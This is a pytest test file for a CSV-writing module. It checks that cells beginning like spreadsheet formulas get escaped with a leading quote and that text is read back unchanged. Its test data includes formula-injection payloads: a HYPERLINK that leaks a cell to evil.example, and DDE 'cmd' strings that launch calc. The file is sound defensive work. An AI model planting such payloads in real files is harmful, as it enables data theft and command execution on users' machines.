"""A table that we write holds text and no formulas for a spreadsheet program, and is read back as it was."""

import ast
from pathlib import Path

import pandas as pd
import pytest

from sidkit.spreadsheets import csv_of, read_csv

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example?leak="&A1, "here")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-dog",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    '="a";=1,=2',
    "'=1+1",
    "''@x",
)
TEXTS = ("a [v] cat", "it's", "'quoted'", "a=b", "a, b", 'a "b"', "1-2", "", "Größe 猫", "two\nlines")


@pytest.mark.parametrize("text", (*FORMULAS, *TEXTS), ids=ascii)
def test_a_text_is_read_back_as_it_was(tmp_path, text):
    frame = pd.DataFrame({"text": [text, "other"], "number": [-1.5, 2.0], "count": [-1, 0]})
    path = tmp_path / "table.csv"
    path.write_bytes(csv_of(frame).encode())
    pd.testing.assert_frame_equal(read_csv(path, keep_default_na=False), frame)


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_cell_begins_as_a_formula_does(tmp_path, text):
    path = tmp_path / "table.csv"
    path.write_bytes(csv_of(pd.DataFrame({"text": [text]})).encode())
    (cell,) = pd.read_csv(path)["text"]
    assert cell == f"'{text}"


def test_numbers_stay_numbers():
    assert csv_of(pd.DataFrame({"a": [-1, 2], "b": [-0.5, float("nan")]})).split() == ["a,b", "-1,-0.5", "2,"]


def test_no_other_module_writes_a_table():
    """But for `watch`, whose rows are two numbers."""
    root = Path(__file__).parents[1] / "sidkit"
    writers = set()
    for path in root.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "to_excel", "writer", "DictWriter"):
                writers.add(path.stem)
    assert writers == {"spreadsheets", "watch"}
